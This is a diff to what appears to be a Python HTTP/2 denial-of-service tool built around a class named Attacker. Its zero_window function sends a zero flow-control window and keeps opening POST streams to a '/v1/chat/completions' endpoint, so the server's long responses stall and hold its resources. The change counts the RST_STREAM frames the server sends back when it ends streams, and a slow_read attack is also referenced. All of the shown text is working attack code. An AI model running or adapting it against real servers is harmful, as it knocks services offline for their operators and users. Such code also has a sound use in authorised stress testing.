@@ -47,6 +47,7 @@ class Attacker:
         self.target, self.source, self.settings = target, source, settings
         self.receive_buffer = receive_buffer
         self.cut = 0
+        self.resets = 0
         self.stream = -1
         self.connect()
 
@@ -75,8 +76,11 @@ class Attacker:
             self.socket.setblocking(False)
             try:
                 while True:
-                    if not self.socket.recv(1 << 16):
+                    data = self.socket.recv(1 << 16)
+                    if not data:
                         raise ConnectionError
+                    # RST_STREAM: four bytes of payload, type 3, no flags.
+                    self.resets += data.count(b"\0\0\4\3\0")
             except BlockingIOError:
                 pass
             self.socket.settimeout(0.2)
@@ -284,13 +288,13 @@ def slow_read(target, source, until, count, request):
 
 
 def zero_window(target, source, until, streams, key, body):
-    """Streams of long answers that are never let through; says PING's answers and no more."""
+    """Streams of long answers that are never let through. Returns how many the server ended."""
     attacker = Attacker(target, source, struct.pack(">HI", 4, 0))
     block = head(
         POST, "/v1/chat/completions", ("authorization", f"Bearer {key}"),
         ("content-type", "application/json"))
     sent = -1
-    while goes_on(until, attacker.cut):
+    while goes_on(until, attacker.cut + attacker.resets):
         data = b""
         if sent < 0:
             data = b"".join(
@@ -299,4 +303,4 @@ def zero_window(target, source, until, streams, key, body):
             data = frame(SETTINGS, 1) + data
         sent = 0 if attacker.send(data) else -1
         time.sleep(0.05)
-    return attacker.cut
+    return attacker.cut + attacker.resets
